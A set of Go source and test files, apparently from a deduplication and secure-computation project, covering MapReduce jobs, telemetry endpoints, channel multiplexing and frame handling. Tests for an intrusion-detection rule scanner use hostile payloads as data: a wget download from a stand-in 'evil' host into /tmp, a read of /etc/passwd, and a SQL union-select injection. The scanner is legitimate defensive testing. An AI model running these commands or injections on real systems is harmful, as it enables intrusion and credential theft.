	fmt.Println(counts["the"], counts["quick"], counts["zebra"])
	// Output:
	// 3 2 0
}

// ExampleRun shows the generic engine with custom types.
func ExampleRun() {
	type purchase struct {
		Customer string
		Cents    int
	}
	totals, err := mapreduce.Run(
		[]purchase{
			{"ada", 150}, {"bob", 99}, {"ada", 250},
		},
		func(p purchase, emit func(string, int)) error {
			emit(p.Customer, p.Cents)
			return nil
		},
		func(customer string, cents []int) (int, error) {
			sum := 0
			for _, c := range cents {
				sum += c
			}
			return sum, nil
		},
		mapreduce.Config[int]{Workers: 2},
	)
	if err != nil {
		fmt.Println("error:", err)
		return
	}
	names := make([]string, 0, len(totals))
	for n := range totals {
		names = append(names, n)
	}
	sort.Strings(names)
	for _, n := range names {
		fmt.Println(n, totals[n])
	}
	// Output:
	// ada 400
	// bob 99
}

// ExampleTFIDF extracts each document's most distinctive terms.
func ExampleTFIDF() {
	scores, err := mapreduce.TFIDF([]string{
		"go is a compiled language",
		"python is an interpreted language",
	}, 2)
	if err != nil {
		fmt.Println("error:", err)
		return
	}
	fmt.Println(mapreduce.TopTerms(scores, 0, 2))
	// Output:
	// [a compiled]
}
