package mapreduce

import (
	"encoding/binary"
	"errors"
	"math"
	"sort"
)

// Further MapReduce jobs in the information-retrieval family the paper
// motivates for Case 4 ("widely used in natural language processing
// and information retrieval"): an inverted index and TF-IDF scoring.
// Both are deterministic in their inputs and produce canonical
// encodings, so they are directly deduplicable.

// Posting is one inverted-index entry: the document and the term's
// occurrence count in it.
type Posting struct {
	// Doc is the document index in the input corpus.
	Doc int
	// Count is the term frequency within the document.
	Count int
}

// InvertedIndex maps every term to its postings (sorted by document),
// built with MapReduce over the corpus.
func InvertedIndex(docs []string, workers int) (map[string][]Posting, error) {
	type docTerm struct {
		doc  int
		text string
	}
	inputs := make([]docTerm, len(docs))
	for i, d := range docs {
		inputs[i] = docTerm{doc: i, text: d}
	}
	return Run(
		inputs,
		func(in docTerm, emit func(string, Posting)) error {
			counts := make(map[string]int)
			for _, w := range Tokenize(in.text) {
				counts[w]++
			}
			for w, c := range counts {
				emit(w, Posting{Doc: in.doc, Count: c})
			}
			return nil
		},
		func(term string, postings []Posting) ([]Posting, error) {
			sort.Slice(postings, func(i, j int) bool {
				return postings[i].Doc < postings[j].Doc
			})
			return postings, nil
		},
		Config[Posting]{Workers: workers},
	)
}

// TFIDF computes term frequency–inverse document frequency scores per
// (term, document), the classic relevance weighting:
//
//	tfidf(t, d) = tf(t, d) * ln(N / df(t))
//
// Scores are returned per term as slices parallel to the term's
// postings.
type TFIDFScore struct {
	// Doc is the document index.
	Doc int
	// Score is the TF-IDF weight of the term in the document.
	Score float64
}

// TFIDF builds the inverted index and derives scores from it.
func TFIDF(docs []string, workers int) (map[string][]TFIDFScore, error) {
	index, err := InvertedIndex(docs, workers)
	if err != nil {
		return nil, err
	}
	n := float64(len(docs))
	out := make(map[string][]TFIDFScore, len(index))
	for term, postings := range index {
		idf := math.Log(n / float64(len(postings)))
		scores := make([]TFIDFScore, len(postings))
		for i, p := range postings {
			scores[i] = TFIDFScore{Doc: p.Doc, Score: float64(p.Count) * idf}
		}
		out[term] = scores
	}
	return out, nil
}

// TopTerms returns the k highest-scoring terms for one document,
// deterministically ordered (score descending, term ascending).
func TopTerms(scores map[string][]TFIDFScore, doc, k int) []string {
	type scored struct {
		term  string
		score float64
	}
	var all []scored
	for term, ss := range scores {
		for _, s := range ss {
			if s.Doc == doc {
				all = append(all, scored{term: term, score: s.Score})
			}
		}
	}
	sort.Slice(all, func(i, j int) bool {
		if all[i].score != all[j].score {
			return all[i].score > all[j].score
		}
		return all[i].term < all[j].term
	})
	if k > len(all) {
		k = len(all)
	}
	out := make([]string, k)
	for i := 0; i < k; i++ {
		out[i] = all[i].term
	}
	return out
}

// ErrMalformedIndex is returned when decoding invalid index bytes.
var ErrMalformedIndex = errors.New("mapreduce: malformed index encoding")

// EncodeIndex serialises an inverted index canonically (terms sorted,
// postings by document), the deduplicable result representation.
func EncodeIndex(index map[string][]Posting) []byte {
	terms := make([]string, 0, len(index))
	for t := range index {
		terms = append(terms, t)
	}
	sort.Strings(terms)
	buf := binary.BigEndian.AppendUint32(nil, uint32(len(terms)))
	for _, t := range terms {
		buf = binary.BigEndian.AppendUint32(buf, uint32(len(t)))
		buf = append(buf, t...)
		postings := index[t]
		buf = binary.BigEndian.AppendUint32(buf, uint32(len(postings)))
		for _, p := range postings {
			buf = binary.BigEndian.AppendUint64(buf, uint64(p.Doc))
			buf = binary.BigEndian.AppendUint64(buf, uint64(p.Count))
		}
	}
	return buf
}

// DecodeIndex parses the form produced by EncodeIndex.
func DecodeIndex(b []byte) (map[string][]Posting, error) {
	if len(b) < 4 {
		return nil, ErrMalformedIndex
	}
	nTerms := int(binary.BigEndian.Uint32(b))
	b = b[4:]
	out := make(map[string][]Posting, nTerms)
	for i := 0; i < nTerms; i++ {
		if len(b) < 4 {
			return nil, ErrMalformedIndex
		}
		tl := int(binary.BigEndian.Uint32(b))
		b = b[4:]
		if tl < 0 || len(b) < tl+4 {
			return nil, ErrMalformedIndex
		}
		term := string(b[:tl])
		b = b[tl:]
		nPost := int(binary.BigEndian.Uint32(b))
		b = b[4:]
		if nPost < 0 || len(b) < nPost*16 {
			return nil, ErrMalformedIndex
		}
		postings := make([]Posting, nPost)
		for j := range postings {
			postings[j].Doc = int(binary.BigEndian.Uint64(b))
			postings[j].Count = int(binary.BigEndian.Uint64(b[8:]))
			b = b[16:]
		}
		out[term] = postings
	}
	if len(b) != 0 {
		return nil, ErrMalformedIndex
	}
	return out, nil
}
