package telemetry

import (
	"encoding/json"
	"net"
	"net/http"
	"strconv"
	"time"
)

// TraceDump is the /debug/trace response: the recording node's address
// plus the matching events, newest first.
type TraceDump struct {
	Node   string       `json:"node,omitempty"`
	Total  uint64       `json:"total"`
	Events []TraceEvent `json:"events"`
}

// Handler returns an http.Handler exposing the registry:
//
//	/metrics      — Prometheus text exposition format
//	/debug/trace  — recent sampled call traces, newest first;
//	                ?id= selects one distributed trace, ?limit=
//	                caps the event count
//	/debug/vars   — the full registry snapshot (counters, gauges,
//	                histogram quantiles) as JSON
func (r *Registry) Handler() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/metrics", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/plain; version=0.0.4; charset=utf-8")
		_ = r.WritePrometheus(w)
	})
	mux.HandleFunc("/debug/trace", func(w http.ResponseWriter, req *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		enc := json.NewEncoder(w)
		enc.SetIndent("", "  ")
		q := req.URL.Query()
		limit, _ := strconv.Atoi(q.Get("limit"))
		var events []TraceEvent
		if id := q.Get("id"); id != "" {
			events = r.Trace().EventsForTrace(id)
			if limit > 0 && limit < len(events) {
				events = events[:limit]
			}
		} else {
			events = r.Trace().EventsN(limit)
		}
		if events == nil {
			events = []TraceEvent{}
		}
		_ = enc.Encode(TraceDump{Node: r.Node(), Total: r.Trace().Total(), Events: events})
	})
	mux.HandleFunc("/debug/vars", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		enc := json.NewEncoder(w)
		enc.SetIndent("", "  ")
		_ = enc.Encode(r.Snapshot())
	})
	return mux
}

// MetricsServer is a running HTTP metrics endpoint.
type MetricsServer struct {
	ln  net.Listener
	srv *http.Server
}

// Addr returns the bound listen address (useful with ":0").
func (m *MetricsServer) Addr() net.Addr { return m.ln.Addr() }

// Close shuts the endpoint down.
func (m *MetricsServer) Close() error { return m.srv.Close() }

// Serve starts an HTTP server on addr exposing the registry via
// Handler. It returns once the listener is bound; serving continues in
// a background goroutine until Close.
func Serve(addr string, r *Registry) (*MetricsServer, error) {
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return nil, err
	}
	srv := &http.Server{
		Handler:           r.Handler(),
		ReadHeaderTimeout: 5 * time.Second,
	}
	go func() { _ = srv.Serve(ln) }()
	return &MetricsServer{ln: ln, srv: srv}, nil
}
