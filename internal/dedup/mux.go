package dedup

import (
	"fmt"
	"os"
	"sync"
	"sync/atomic"
	"time"

	"speed/internal/wire"
)

// chanMux multiplexes one protocol-v2 secure channel among concurrent
// callers: requests are enveloped with a fresh request ID and written
// directly (wire.Channel.Send is internally serialised), while a single
// reader goroutine correlates responses — which may arrive in any
// order — back to their waiting callers. This removes the serial
// one-request-at-a-time discipline of the v1 protocol: N goroutines
// share one attested channel and their round trips overlap on the wire.
//
// Error handling mirrors the serial path's channel poisoning: any
// transport error, malformed envelope or request timeout is terminal
// for the whole mux (the channel's cipher counters cannot be trusted
// afterwards). Every in-flight waiter is failed with the same error and
// the owning RemoteClient re-dials on the next attempt.
type chanMux struct {
	ch     *wire.Channel
	nextID atomic.Uint64

	mu      sync.Mutex
	pending map[uint64]chan muxResult
	err     error // terminal error; nil while healthy

	readerDone chan struct{}
}

type muxResult struct {
	msg wire.Message
	err error
}

func newChanMux(ch *wire.Channel) *chanMux {
	m := &chanMux{
		ch:         ch,
		pending:    make(map[uint64]chan muxResult),
		readerDone: make(chan struct{}),
	}
	go m.readLoop()
	return m
}

// readLoop is the demultiplexer: it owns Recv on the channel and routes
// each response envelope to the caller that registered its request ID.
// Responses for unknown IDs are dropped — a peer must not originate
// requests, and with the kill-on-timeout discipline there are no
// abandoned in-flight IDs to collide with.
func (m *chanMux) readLoop() {
	defer close(m.readerDone)
	for {
		//speedlint:ignore deadline kill-on-timeout: roundTrip owns the clock and fails the mux, which closes the channel and unblocks this Recv
		payload, err := m.ch.Recv()
		if err != nil {
			m.fail(err)
			return
		}
		id, _, msg, err := m.ch.ParseEnvelope(payload)
		if err != nil {
			m.fail(fmt.Errorf("dedup: mux: %w", err))
			return
		}
		// The decoded message aliases the channel's receive scratch,
		// which the next Recv reuses — copy before it crosses to the
		// waiting goroutine.
		msg = wire.OwnMessage(msg)
		m.mu.Lock()
		w, ok := m.pending[id]
		if ok {
			delete(m.pending, id)
		}
		m.mu.Unlock()
		if ok {
			w <- muxResult{msg: msg} // buffered: never blocks
		}
	}
}

// fail marks the mux broken (first error wins), closes the channel so
// the reader unwinds, and delivers the terminal error to every
// in-flight waiter. Idempotent.
func (m *chanMux) fail(err error) {
	m.mu.Lock()
	if m.err == nil {
		m.err = err
		m.ch.Close()
	} else {
		err = m.err
	}
	pending := m.pending
	m.pending = make(map[uint64]chan muxResult)
	m.mu.Unlock()
	for _, w := range pending {
		w <- muxResult{err: err} // buffered: never blocks
	}
}

// broken returns the terminal error, or nil while the mux is healthy.
func (m *chanMux) broken() error {
	m.mu.Lock()
	defer m.mu.Unlock()
	return m.err
}

// roundTrip issues one request and waits for its correlated response.
// tc, when sampled, rides in the envelope header so the store can link
// its spans to the caller's trace; on channels that did not negotiate
// FeatureTrace it is silently dropped. timeout > 0 bounds the wait;
// expiry kills the mux so the owning client re-dials, exactly as a
// deadline poisons a serial channel.
func (m *chanMux) roundTrip(req wire.Message, tc wire.TraceContext, timeout time.Duration) (wire.Message, error) {
	id := m.nextID.Add(1)
	w := make(chan muxResult, 1)
	m.mu.Lock()
	if m.err != nil {
		err := m.err
		m.mu.Unlock()
		return nil, err
	}
	m.pending[id] = w
	m.mu.Unlock()

	if err := m.ch.SendEnvelopeTrace(id, tc, req); err != nil {
		m.fail(err)
		return nil, err
	}

	var timeoutC <-chan time.Time
	if timeout > 0 {
		timer := time.NewTimer(timeout)
		defer timer.Stop()
		timeoutC = timer.C
	}
	select {
	case r := <-w:
		return r.msg, r.err
	case <-timeoutC:
		err := fmt.Errorf("dedup: request %d: %w", id, os.ErrDeadlineExceeded)
		m.fail(err)
		return nil, err
	}
}
