package pattern

import (
	"bytes"
	"math/rand"
	"reflect"
	"regexp"
	"testing"
	"testing/quick"
)

// naiveFindAll is the reference implementation for Aho–Corasick.
func naiveFindAll(patterns [][]byte, data []byte, fold bool) []Match {
	lower := func(b []byte) []byte {
		out := append([]byte(nil), b...)
		lowerBytes(out)
		return out
	}
	d := data
	if fold {
		d = lower(data)
	}
	var out []Match
	for end := 1; end <= len(d); end++ {
		for pi, p := range patterns {
			pp := p
			if fold {
				pp = lower(p)
			}
			if len(pp) == 0 || end < len(pp) {
				continue
			}
			if bytes.Equal(d[end-len(pp):end], pp) {
				out = append(out, Match{Pattern: pi, End: end})
			}
		}
	}
	return out
}

func TestMatcherBasic(t *testing.T) {
	pats := [][]byte{[]byte("he"), []byte("she"), []byte("his"), []byte("hers")}
	m := NewMatcher(pats, false)
	got := m.FindAll([]byte("ushers"))
	want := []Match{
		{Pattern: 1, End: 4}, // she
		{Pattern: 0, End: 4}, // he
		{Pattern: 3, End: 6}, // hers
	}
	// Order: by end then pattern index; she(1) and he(0) share end 4.
	wantSorted := []Match{{0, 4}, {1, 4}, {3, 6}}
	_ = want
	if !reflect.DeepEqual(got, wantSorted) {
		t.Errorf("FindAll = %v, want %v", got, wantSorted)
	}
}

func TestMatcherOverlapsAndRepeats(t *testing.T) {
	pats := [][]byte{[]byte("aa"), []byte("aaa")}
	m := NewMatcher(pats, false)
	got := m.FindAll([]byte("aaaa"))
	want := naiveFindAll(pats, []byte("aaaa"), false)
	if !reflect.DeepEqual(got, want) {
		t.Errorf("FindAll = %v, want %v", got, want)
	}
}

func TestMatcherCaseFold(t *testing.T) {
	m := NewMatcher([][]byte{[]byte("Attack")}, true)
	for _, s := range []string{"attack", "ATTACK", "aTtAcK"} {
		if got := m.FindAll([]byte(s)); len(got) != 1 {
			t.Errorf("FindAll(%q) = %v, want one match", s, got)
		}
	}
	mSensitive := NewMatcher([][]byte{[]byte("Attack")}, false)
	if got := mSensitive.FindAll([]byte("attack")); len(got) != 0 {
		t.Errorf("case-sensitive FindAll matched %v", got)
	}
}

func TestMatcherNoMatch(t *testing.T) {
	m := NewMatcher([][]byte{[]byte("needle")}, false)
	if got := m.FindAll([]byte("haystack without it")); len(got) != 0 {
		t.Errorf("FindAll = %v, want none", got)
	}
	if got := m.FindAll(nil); len(got) != 0 {
		t.Errorf("FindAll(nil) = %v, want none", got)
	}
}

func TestMatcherContains(t *testing.T) {
	pats := [][]byte{[]byte("GET"), []byte("POST"), []byte("/etc/passwd")}
	m := NewMatcher(pats, false)
	got := m.Contains([]byte("GET /etc/passwd HTTP/1.1"))
	want := []bool{true, false, true}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("Contains = %v, want %v", got, want)
	}
}

// Property: the automaton agrees with the naive scanner on random
// inputs over a small alphabet (small alphabets maximize overlap
// stress).
func TestQuickMatcherAgreesWithNaive(t *testing.T) {
	prop := func(seed int64) bool {
		rng := rand.New(rand.NewSource(seed))
		alphabet := []byte("abc")
		randStr := func(n int) []byte {
			b := make([]byte, n)
			for i := range b {
				b[i] = alphabet[rng.Intn(len(alphabet))]
			}
			return b
		}
		nPats := 1 + rng.Intn(6)
		pats := make([][]byte, nPats)
		for i := range pats {
			pats[i] = randStr(1 + rng.Intn(4))
		}
		data := randStr(rng.Intn(60))
		fold := rng.Intn(2) == 0
		got := NewMatcher(pats, fold).FindAll(data)
		want := naiveFindAll(pats, data, fold)
		if len(got) == 0 && len(want) == 0 {
			return true
		}
		return reflect.DeepEqual(got, want)
	}
	if err := quick.Check(prop, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}

func TestRegexBasics(t *testing.T) {
	tests := []struct {
		pattern string
		fold    bool
		input   string
		want    bool
	}{
		{"abc", false, "xxabcxx", true},
		{"abc", false, "xxabxcx", false},
		{"a.c", false, "abc", true},
		{"a.c", false, "a\nc", false}, // '.' excludes newline
		{"a|b", false, "zzzb", true},
		{"a|b", false, "zzz", false},
		{"ab*c", false, "ac", true},
		{"ab*c", false, "abbbbc", true},
		{"ab+c", false, "ac", false},
		{"ab+c", false, "abc", true},
		{"ab?c", false, "abc", true},
		{"ab?c", false, "abbc", false},
		{"^abc", false, "abcdef", true},
		{"^abc", false, "xabc", false},
		{"abc$", false, "xxabc", true},
		{"abc$", false, "abcx", false},
		{"^abc$", false, "abc", true},
		{"[a-c]+", false, "zzba", true},
		{"[^a-c]", false, "abc", false},
		{"[^a-c]", false, "abcd", true},
		{`\d+`, false, "abc123", true},
		{`\d+`, false, "abcdef", false},
		{`\w+@\w+`, false, "mail me at bob@example", true},
		{`\s`, false, "nospace", false},
		{`\s`, false, "has space", true},
		{`a{3}`, false, "aa", false},
		{`a{3}`, false, "aaa", true},
		{`a{2,}`, false, "xaax", true},
		{`a{2,}`, false, "xax", false},
		{`a{1,3}b`, false, "aaab", true},
		{`ba{0,2}b`, false, "bb", true},
		{`ba{0,2}b`, false, "baaab", false},
		{`(ab)+`, false, "xxababxx", true},
		{`(ab|cd)ef`, false, "zcdefz", true},
		{`(ab|cd)ef`, false, "zadefz", false},
		{`(ab|cd){2}`, false, "abcd", true},
		{`(ab|cd){2}`, false, "abxcd", false},
		{`\x41\x42`, false, "zABz", true},
		{`\.`, false, "a.b", true},
		{`\.`, false, "ab", false},
		{"GET", true, "get /index", true},
		{"[a-z]+", true, "HELLO", true},
		{"", false, "anything", true}, // empty pattern matches
		{`\r\n`, false, "line1\r\nline2", true},
		{`a(b(c|d)e)f`, false, "xabdefx", true},
	}
	for _, tt := range tests {
		re, err := CompileRegex(tt.pattern, tt.fold)
		if err != nil {
			t.Errorf("CompileRegex(%q): %v", tt.pattern, err)
			continue
		}
		if got := re.MatchString(tt.input); got != tt.want {
			t.Errorf("(%q fold=%v).Match(%q) = %v, want %v",
				tt.pattern, tt.fold, tt.input, got, tt.want)
		}
	}
}

func TestRegexRejectsInvalid(t *testing.T) {
	for _, pattern := range []string{
		"(", ")", "a)", "(a", "[", "[a", "a{", "a{2", "a{x}", "a{3,1}",
		"*a", "+a", "?a", `\`, `\x1`, `\xZZ`, "[z-a]", "a{999}",
	} {
		if _, err := CompileRegex(pattern, false); err == nil {
			t.Errorf("CompileRegex(%q) accepted invalid pattern", pattern)
		}
	}
}

// Property: on a shared subset of syntax, the engine agrees with the
// standard library.
func TestQuickRegexAgreesWithStdlib(t *testing.T) {
	patterns := []string{
		"a", "ab", "a|b", "a*", "a+b", "(ab)*c", "[abc]+", "[^ab]c",
		"a.b", "^ab", "ab$", "a{2,3}", "(a|b)(c|d)", `\d+[ab]`,
	}
	prop := func(seed int64) bool {
		rng := rand.New(rand.NewSource(seed))
		pattern := patterns[rng.Intn(len(patterns))]
		alphabet := []byte("abcd1 \n")
		input := make([]byte, rng.Intn(24))
		for i := range input {
			input[i] = alphabet[rng.Intn(len(alphabet))]
		}
		mine, err := CompileRegex(pattern, false)
		if err != nil {
			return false
		}
		std := regexp.MustCompile(pattern)
		return mine.Match(input) == std.Match(input)
	}
	if err := quick.Check(prop, &quick.Config{MaxCount: 500}); err != nil {
		t.Error(err)
	}
}

func testRules(t *testing.T) *RuleSet {
	t.Helper()
	rs, err := CompileRules([]Rule{
		{ID: 1000, Name: "shell download", Contents: [][]byte{[]byte("wget"), []byte("/tmp/")}},
		{ID: 1001, Name: "passwd read", Contents: [][]byte{[]byte("/etc/passwd")}},
		{ID: 1002, Name: "http admin", Contents: [][]byte{[]byte("GET")}, NoCase: true,
			PCRE: `/admin[a-z]*\.php`},
		{ID: 1003, Name: "sql injection", PCRE: `(union|UNION)\s+(select|SELECT)`},
		{ID: 1004, Name: "exact case", Contents: [][]byte{[]byte("MaLwArE")}},
	})
	if err != nil {
		t.Fatalf("CompileRules: %v", err)
	}
	return rs
}

func TestRuleSetScan(t *testing.T) {
	rs := testRules(t)
	tests := []struct {
		name    string
		payload string
		want    []int
	}{
		{"clean", "GET /index.html HTTP/1.1", nil},
		{"both contents required", "wget http://evil/x", nil},
		{"contents rule", "wget -O /tmp/x http://evil/x", []int{1000}},
		{"single content", "cat /etc/passwd", []int{1001}},
		{"content+pcre, pcre fails", "GET /index.php", nil},
		{"content+pcre matches", "get /administrator.php", []int{1002}},
		{"pure pcre", "x' union  select password", []int{1003}},
		{"case sensitivity", "malware", nil},
		{"exact case hit", "drop MaLwArE here", []int{1004}},
		{"multiple rules", "wget /tmp/a; cat /etc/passwd", []int{1000, 1001}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := rs.Scan([]byte(tt.payload))
			if len(got) == 0 && len(tt.want) == 0 {
				return
			}
			if !reflect.DeepEqual(got, tt.want) {
				t.Errorf("Scan(%q) = %v, want %v", tt.payload, got, tt.want)
			}
		})
	}
}

func TestRuleSetScanDeterministic(t *testing.T) {
	rs := testRules(t)
	payload := []byte("wget /tmp/a; cat /etc/passwd; GET /admin.php; union select")
	a := rs.Scan(payload)
	b := rs.Scan(payload)
	if !reflect.DeepEqual(a, b) {
		t.Error("Scan is not deterministic")
	}
}

func TestCompileRulesValidation(t *testing.T) {
	cases := []struct {
		name  string
		rules []Rule
	}{
		{"duplicate id", []Rule{
			{ID: 1, Contents: [][]byte{[]byte("a")}},
			{ID: 1, Contents: [][]byte{[]byte("b")}},
		}},
		{"empty rule", []Rule{{ID: 1}}},
		{"empty content", []Rule{{ID: 1, Contents: [][]byte{nil}}}},
		{"bad pcre", []Rule{{ID: 1, PCRE: "("}}},
	}
	for _, tt := range cases {
		if _, err := CompileRules(tt.rules); err == nil {
			t.Errorf("%s: CompileRules accepted invalid rules", tt.name)
		}
	}
}

func TestScanResultCodec(t *testing.T) {
	for _, ids := range [][]int{nil, {}, {5}, {1, 2, 3, 1000000}} {
		got, err := DecodeScanResult(EncodeScanResult(ids))
		if err != nil {
			t.Fatalf("DecodeScanResult: %v", err)
		}
		if len(got) != len(ids) {
			t.Errorf("round trip %v = %v", ids, got)
			continue
		}
		for i := range ids {
			if got[i] != ids[i] {
				t.Errorf("round trip %v = %v", ids, got)
				break
			}
		}
	}
	for _, bad := range [][]byte{nil, {1}, {0, 0, 0, 2, 9}} {
		if _, err := DecodeScanResult(bad); err == nil {
			t.Errorf("DecodeScanResult(%v) accepted malformed input", bad)
		}
	}
}

func TestRuleSetLargeScale(t *testing.T) {
	// A few thousand rules, like the paper's >3,700 Snort rules.
	rng := rand.New(rand.NewSource(7))
	rules := make([]Rule, 3700)
	for i := range rules {
		content := make([]byte, 6+rng.Intn(10))
		for j := range content {
			content[j] = byte('a' + rng.Intn(26))
		}
		rules[i] = Rule{ID: i + 1, Contents: [][]byte{content}}
	}
	// One rule with known content we will hit.
	rules[42].Contents = [][]byte{[]byte("hit-me-content")}
	rs, err := CompileRules(rules)
	if err != nil {
		t.Fatalf("CompileRules: %v", err)
	}
	got := rs.Scan([]byte("payload with hit-me-content inside"))
	found := false
	for _, id := range got {
		if id == 43 {
			found = true
		}
	}
	if !found {
		t.Errorf("Scan missed planted rule, got %v", got)
	}
	if rs.Len() != 3700 {
		t.Errorf("Len = %d, want 3700", rs.Len())
	}
}
