// Command speedtop is a live fleet console for a SPEED cluster: it
// polls every member's telemetry endpoint (/metrics in Prometheus text
// format plus the /debug/trace ring), assembles the sampled spans the
// nodes recorded under shared trace IDs into cross-node distributed
// traces, and renders a per-node health table alongside the N slowest
// assembled traces.
//
// Usage:
//
//	speedtop -nodes 127.0.0.1:9090,127.0.0.1:9091,127.0.0.1:9092
//	speedtop -nodes 127.0.0.1:9090 -once          # single snapshot, no screen clearing
//	speedtop -nodes ... -interval 2s -top 5
//
// The addresses are telemetry (metrics) listen addresses — the ones
// given to resultstore -metrics — not store wire addresses. Include
// the application side's metrics endpoint too and its Execute root
// spans complete the trees; without it the store-side spans still
// assemble, flagged as partial.
package main

import (
	"flag"
	"fmt"
	"os"
	"strings"
	"time"

	"speed/internal/fleet"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "speedtop:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("speedtop", flag.ContinueOnError)
	nodes := fs.String("nodes", "", "comma-separated telemetry endpoints to poll (host:port or http URLs)")
	interval := fs.Duration("interval", 2*time.Second, "poll interval")
	top := fs.Int("top", 5, "slowest assembled traces to show")
	traceLimit := fs.Int("trace-limit", 64, "trace events fetched per node per poll")
	once := fs.Bool("once", false, "poll once, print, exit (no screen clearing)")
	if err := fs.Parse(args); err != nil {
		return err
	}
	var addrs []string
	for _, a := range strings.Split(*nodes, ",") {
		if a = strings.TrimSpace(a); a != "" {
			addrs = append(addrs, a)
		}
	}
	if len(addrs) == 0 {
		return fmt.Errorf("no nodes: pass -nodes host:port[,host:port...]")
	}

	p := &fleet.Poller{TraceLimit: *traceLimit}
	for {
		sts := p.Poll(addrs)
		traces := fleet.Assemble(sts)
		if !*once {
			fmt.Print("\x1b[2J\x1b[H") // clear screen, home cursor
		}
		fmt.Printf("speedtop  %s  %d nodes\n\n", time.Now().Format("15:04:05"), len(addrs))
		fleet.RenderStatus(os.Stdout, sts)
		fmt.Println()
		fleet.RenderTraces(os.Stdout, traces, *top)
		if *once {
			return nil
		}
		time.Sleep(*interval)
	}
}
