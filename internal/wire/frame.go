package wire

import (
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"sync"
)

// MaxFrameSize bounds a single frame to protect against resource
// exhaustion by a malicious peer. Results larger than this must be
// chunked by the application (none of the paper's workloads come close).
const MaxFrameSize = 64 << 20

// maxHelloSize bounds a handshake frame. Until the peer has attested,
// it gets no benefit of the doubt: a legitimate hello (report + quote)
// is well under a kilobyte, so a pre-attestation length prefix beyond
// this is an attack on the receiver's memory, not a big message.
const maxHelloSize = 64 << 10

// frameHeaderLen is the length-prefix overhead of every frame.
const frameHeaderLen = 4

// maxScratchRetain caps how much scratch capacity a channel or the
// frame pool retains between messages. A single oversized frame (a
// multi-megabyte PUT) may still grow a transient buffer, but steady
// state keeps at most this much per channel direction.
const maxScratchRetain = 1 << 20

// ErrFrameTooLarge is returned when a peer announces a frame beyond
// the applicable size limit.
var ErrFrameTooLarge = errors.New("wire: frame exceeds maximum size")

// framePool recycles combined header+payload scratch buffers for
// WriteFrame on writers that cannot take a vectored write. Buffers are
// owned by WriteFrame only for the duration of one call.
var framePool = sync.Pool{
	New: func() any {
		b := make([]byte, 0, 4096)
		return &b
	},
}

// WriteFrame writes a length-prefixed frame with a single write per
// frame: a vectored write (net.Buffers) when w is a net.Conn — the
// kernel sees one writev — and otherwise one combined write from a
// pooled scratch buffer, so a non-conn writer still never observes the
// header and payload as separate writes.
//
// Channel.Send does not use WriteFrame: it seals the ciphertext
// directly after a reserved header in its own scratch, which is already
// one contiguous write with no extra copy.
func WriteFrame(w io.Writer, payload []byte) error {
	if len(payload) > MaxFrameSize {
		return ErrFrameTooLarge
	}
	var hdr [frameHeaderLen]byte
	binary.BigEndian.PutUint32(hdr[:], uint32(len(payload)))
	if c, ok := w.(net.Conn); ok {
		bufs := net.Buffers{hdr[:], payload}
		if _, err := bufs.WriteTo(c); err != nil {
			return fmt.Errorf("write frame: %w", err)
		}
		return nil
	}
	bp := framePool.Get().(*[]byte)
	buf := append((*bp)[:0], hdr[:]...)
	buf = append(buf, payload...)
	_, err := w.Write(buf)
	if cap(buf) <= maxScratchRetain {
		*bp = buf[:0]
		framePool.Put(bp)
	}
	if err != nil {
		return fmt.Errorf("write frame: %w", err)
	}
	return nil
}

// ReadFrame reads one length-prefixed frame into a fresh buffer that
// the caller owns.
func ReadFrame(r io.Reader) ([]byte, error) {
	return readFrameLimit(r, MaxFrameSize, nil)
}

// ReadFrameInto reads one length-prefixed frame, reusing buf's backing
// array when it is large enough and allocating a bigger one otherwise.
// The returned slice aliases that backing array: it is valid only until
// the caller's next ReadFrameInto with the same buffer. Pass the
// returned slice back in (resliced to [:0] or not — only its capacity
// matters) to amortise the allocation to zero in steady state.
func ReadFrameInto(r io.Reader, buf []byte) ([]byte, error) {
	return readFrameLimit(r, MaxFrameSize, buf)
}

// readFrameLimit is the frame reader core: max bounds the announced
// payload length BEFORE any allocation, so a hostile length prefix
// costs the receiver four bytes of reading and nothing else. The
// header is read into the front of the scratch buffer (a stack array
// would escape through the io.Reader interface and cost an allocation
// per frame); the payload read then overwrites it.
func readFrameLimit(r io.Reader, max uint32, buf []byte) ([]byte, error) {
	if cap(buf) < frameHeaderLen {
		buf = make([]byte, frameHeaderLen)
	}
	hdr := buf[:frameHeaderLen]
	if _, err := io.ReadFull(r, hdr); err != nil {
		return nil, err
	}
	n := binary.BigEndian.Uint32(hdr)
	if n > max {
		return nil, fmt.Errorf("%w (%d bytes, limit %d)", ErrFrameTooLarge, n, max)
	}
	if uint64(cap(buf)) < uint64(n) {
		buf = make([]byte, n)
	} else {
		buf = buf[:n]
	}
	if _, err := io.ReadFull(r, buf); err != nil {
		return nil, fmt.Errorf("read frame payload: %w", err)
	}
	return buf, nil
}
