package workload

import (
	"bytes"
	"reflect"
	"testing"

	"speed/internal/compress"
	"speed/internal/mapreduce"
	"speed/internal/pattern"
	"speed/internal/sift"
)

func TestDeterminism(t *testing.T) {
	a, b := New(7), New(7)
	if !reflect.DeepEqual(a.Image(32, 32), b.Image(32, 32)) {
		t.Error("Image not deterministic")
	}
	if !bytes.Equal(a.Text(500), b.Text(500)) {
		t.Error("Text not deterministic")
	}
	if a.WebPage(50) != b.WebPage(50) {
		t.Error("WebPage not deterministic")
	}
	ra, rb := a.SnortRules(10), b.SnortRules(10)
	if !reflect.DeepEqual(ra, rb) {
		t.Error("SnortRules not deterministic")
	}
	if !bytes.Equal(a.Packet(100, ra, 0.5), b.Packet(100, rb, 0.5)) {
		t.Error("Packet not deterministic")
	}
	if !reflect.DeepEqual(a.ZipfIndices(100, 10), b.ZipfIndices(100, 10)) {
		t.Error("ZipfIndices not deterministic")
	}
}

func TestDifferentSeedsDiffer(t *testing.T) {
	if bytes.Equal(New(1).Text(200), New(2).Text(200)) {
		t.Error("different seeds produced identical text")
	}
}

